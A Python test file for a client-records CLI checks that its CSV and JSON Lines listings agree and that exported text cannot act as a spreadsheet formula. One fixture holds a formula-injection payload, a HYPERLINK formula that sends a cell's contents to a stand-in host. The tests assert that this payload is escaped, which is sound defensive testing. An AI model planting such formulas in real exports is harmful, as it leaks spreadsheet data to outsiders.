"""`list --format csv|jsonl` and `list all`: flat rows that no spreadsheet runs."""

import csv
import io
import json
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from clientcare.facts.workspace import Workspace
from clientcare.output.tables import FORMULA, columns, csv_table, row_of
from clientcare.published.records import record_json
from clientcare.records import KINDS
from clientcare.summary.listing import records_of
from tests.any_workspace import Drawn, any_workspaces
from tests.cli.running import FILES, error, run, write
from tests.drawn import examples
from tests.for_each import for_each

DAY = ("--as-of", "2026-06-15")
ALIKE = """
[[commitment]]
id = "PORTAL-bill"
title = "Bill"
by = "client"
kind = "payment"
made = 2026-06-01
promised = 2026-06-12
amount = 10
currency = "EUR"
payments = [{ on = 2026-06-05, amount = 4 }, { on = 2026-06-12, amount = 6 }]
[[touchpoint]]
on = 2026-06-11
kind = "complaint"
summary = "Too slow"
"""
AGENCY = ("--root", str(Path(__file__).parents[2] / "examples/agency"), "--as-of", "2026-11-20")


def table(*words: str) -> list[dict[str, str]]:
    """The rows of a CSV that a command gives."""
    ran = run("list", *words, "--format", "csv")
    assert (ran.code, ran.err) == (0, "")
    assert ran.out.partition("\n")[0].endswith("\r")
    return list(csv.DictReader(io.StringIO(ran.out, newline=""), strict=True))


def lines(*words: str) -> list[dict[str, Any]]:
    """The rows of the JSON Lines that a command gives."""
    return [json.loads(line) for line in run("list", *words).out.splitlines()]


@for_each("kind", KINDS)
def test_the_columns_of_a_kind_are_always_the_same(kind: str) -> None:
    rows, same = table(kind, *AGENCY), lines(kind, *AGENCY, "--format", "jsonl")
    assert rows
    for row, other in zip(rows, same, strict=True):
        assert list(row) == list(other) == columns(kind)
        texts = {k: "" if v is None else json.dumps(v).strip('"') for k, v in other.items()}
        differ = {key for key in row if row[key] != texts[key]}
        assert all('"' in texts[key] or "\\" in texts[key] or row[key][:1] == "'" for key in differ)


def shown(value: Any) -> Any:
    """A value of a record in JSON as the cell of a row: lists as one text, of moods the lowest."""
    if isinstance(value, dict):
        value = min(value.values(), default=None)
    return "; ".join(value) or None if isinstance(value, list) else value


def compare_with_json(space: Workspace) -> None:
    """Whatever a row and the JSON of the same record both hold is one value."""
    for kind in KINDS:
        for one in records_of(kind, space.contexts, by_round=True):
            row, other = row_of(one), record_json(one)
            own = {"kind": f"{kind}_kind"}
            same = {own.get(key, key): shown(value) for key, value in other.items()}
            for key in row.keys() & same.keys() - {"file", "line", "moves"}:
                known: Any = row[key] or 0 if key in ("slip_days", "days_late") else row[key]
                if key in ("due", "promised", "forecast") and known:  # JSON has the hour beside
                    known = known[:10]
                assert known == same[key], (one.id, key)


@examples(60)
@given(any_workspaces())
def test_a_row_says_what_the_json_of_the_record_says(drawn: Drawn) -> None:
    compare_with_json(drawn.workspace())


def test_what_was_paid_in_parts_or_complained_is_told_alike(tmp_path: Path) -> None:
    root = str(write(tmp_path, {**FILES, "projects/portal/more.toml": ALIKE}))
    rows = {row["id"]: row for row in table("commitment", "--root", root, *DAY)}
    assert (rows["PORTAL-bill"]["delivered"], rows["PORTAL-bill"]["state"]) == (
        "2026-06-12",
        "delivered",
    )
    (complaint,) = table("touchpoint", "--root", root, *DAY)
    assert complaint["from"] == "client"


def test_a_table_without_rows_has_its_header(tmp_path: Path) -> None:
    write(tmp_path)
    ran = run("list", "risk", "--root", str(tmp_path), "--format", "csv")
    assert (ran.code, ran.err) == (0, "")
    assert ran.out == ",".join(columns("risk")) + "\r\n"
    assert run("list", "risk", "--root", str(tmp_path), "--format", "jsonl") == (0, "", "")


def test_an_amount_has_its_currency_that_of_the_project_too(tmp_path: Path) -> None:
    bill = '[[commitment]]\nid = "PORTAL-{0}"\ntitle = "{0}"\nby = "client"\nkind = "payment"\n'
    more = bill.format("a") + "amount = 5\n" + bill.format("b") + 'amount = 5\ncurrency = "SEK"\n'
    project = FILES["projects/portal/project.toml"].replace("lead =", 'currency = "EUR"\nlead =')
    files = {"projects/portal/more.toml": more + bill.format("c")}
    root = write(tmp_path, {**FILES, "projects/portal/project.toml": project, **files})
    rows = table("commitment", "--root", str(root), "--as-of", "2026-06-15")
    found = {row["id"]: row["currency"] for row in rows}
    assert [found[f"PORTAL-{one}"] for one in "abc"] == ["EUR", "SEK", ""]


def test_what_follows_from_the_facts_is_in_the_row() -> None:
    rows = {row["id"]: row for row in lines("commitment", *AGENCY, "--format", "jsonl")}
    api = rows["ACME-payment-api"]
    assert (api["promised"], api["due"], api["moves"], api["overdue"], api["days_late"]) == (
        "2026-09-01", "2026-11-17", 2, True, 3,
    )  # fmt: skip
    assert (api["commitment_kind"], api["kind"], api["kept"]) == (
        "deliverable",
        "commitment",
        False,
    )
    assert rows["ACME-floor-plans"]["kept"] is True
    assert rows["ACME-admin-guide"]["kept"] is None
    amounts = {row["amount"] for row in rows.values()}
    assert all(amount is None or isinstance(amount, str) for amount in amounts)
    assert len(amounts) > 1


def test_all_kinds_are_one_stream() -> None:
    rows = lines("all", *AGENCY)
    assert {row["kind"] for row in rows} == set(KINDS)
    each = [lines(kind, *AGENCY, "--format", "jsonl") for kind in KINDS]
    assert rows == [row for some in each for row in some]
    touch = next(row for row in rows if row["kind"] == "touchpoint")
    assert touch["touchpoint_kind"] == "meeting"
    one = lines("all", "--project", "saari-guide", *AGENCY)
    assert {row["project"] for row in one} == {"saari-guide"}


@for_each("words", [("--format", "csv"), ("--format", "text"), ("--overdue",), ("--state", "open")])
def test_all_kinds_have_no_other_form(words: tuple[str, ...]) -> None:
    said = error("list all gives all records as jsonl", "name a kind for less")
    assert run("list", "all", *AGENCY, *words) == (2, "", said)
    assert run("list", "risk", *AGENCY, "--raw").code == 2


# Formulas ----------------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("https://x.example?"&A1,"@ok")'


def hostile(root: Path) -> tuple[str, ...]:
    """A workspace whose texts are formulas."""
    title = json.dumps(HOSTILE)
    text = f'[[commitment]]\nid = "PORTAL-x"\ntitle = {title}\nnotes = "-2+3"\namount = -5\n'
    text += 'currency = "EUR"\nacceptance = ["a, \\"b\\"\\nc"]\n'
    write(root, {**FILES, "projects/portal/others.toml": text})
    return "commitment", "--root", str(root), "--as-of", "2026-06-15"


def test_no_text_is_a_formula_to_a_spreadsheet(tmp_path: Path) -> None:
    row = next(row for row in table(*hostile(tmp_path)) if row["id"] == "PORTAL-x")
    assert (row["title"], row["notes"]) == (f"'{HOSTILE}", "'-2+3")
    assert row["amount"] == "-5"
    assert row["acceptance"] == 'a, "b" c'
    raw = run("list", *hostile(tmp_path), "--format", "csv", "--raw").out
    rows = {one["id"]: one for one in csv.DictReader(io.StringIO(raw, newline=""))}
    assert rows["PORTAL-x"]["title"] == HOSTILE
    assert rows["PORTAL-x"]["acceptance"] == 'a, "b"\nc'
    (same,) = [r for r in lines(*hostile(tmp_path), "--format", "jsonl") if r["id"] == "PORTAL-x"]
    assert same["title"] == HOSTILE


@given(
    st.text() | st.integers().map(str) | st.text().map("=".__add__) | st.text(alphabet=';="+- ＝a,')
)
def test_a_text_never_begins_a_formula(text: str) -> None:
    row = dict.fromkeys(columns("risk"), None) | {"title": text}
    whole = csv_table("risk", [row], raw=False)
    (back,) = csv.DictReader(io.StringIO(whole, newline=""), strict=True)
    assert not back["title"].startswith(FORMULA) or float(back["title"]) == float(text)
    divided = csv.reader(io.StringIO(whole, newline=""), delimiter=";", quoting=csv.QUOTE_NONE)
    for cell in [cell for cells in divided for cell in cells[1:]]:
        assert not cell.lstrip('"').startswith(FORMULA)
    assert whole.count("\n") == 2
    assert not any(ord(char) < 32 for char in whole.replace("\r\n", ""))
